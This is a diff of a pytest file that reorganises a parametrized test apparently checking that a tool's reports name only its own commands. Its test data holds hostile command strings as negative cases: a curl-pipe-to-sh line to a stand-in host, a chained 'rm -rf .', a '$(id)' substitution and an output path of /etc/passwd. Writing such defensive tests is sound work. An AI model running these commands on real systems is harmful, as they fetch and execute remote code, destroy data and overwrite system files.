@@ -362,19 +362,18 @@ def test_bad_input_takes_the_green_comment_down(runner: Runner) -> None:
 
 
 @pytest.mark.parametrize(
-    "command",
+    ("key", "command"),
     [
-        "curl -s https://evil.example/x | sh",
-        "vrty-gate check m.yml; rm -rf .",
-        "vrty-gate check $(id)",
-        "vrty-gate check m.yml --output /etc/passwd",
-        "vrty-gate publish m.yml",
-        "vrty-gate",
-        "'",
+        *((key, "curl -s https://evil.example/x | sh") for key in ("reproduce", "explain", "accept", "mend")),
+        ("mend", "vrty-gate check m.yml; rm -rf ."),
+        ("mend", "vrty-gate check $(id)"),
+        ("mend", "vrty-gate check m.yml --output /etc/passwd"),
+        ("mend", "vrty-gate publish m.yml"),
+        ("mend", "vrty-gate"),
+        ("mend", "'"),
     ],
 )
-@pytest.mark.parametrize("key", ["reproduce", "explain", "accept", "mend"])
-def test_a_report_names_no_commands_but_ours(runner: Runner, command: str, key: str) -> None:
+def test_a_report_names_no_commands_but_ours(runner: Runner, key: str, command: str) -> None:
     runner.repository.write("refund.md", SOFT)
     runner.step(report="report.json")
     report = json.loads(runner.repository.read("report.json"))
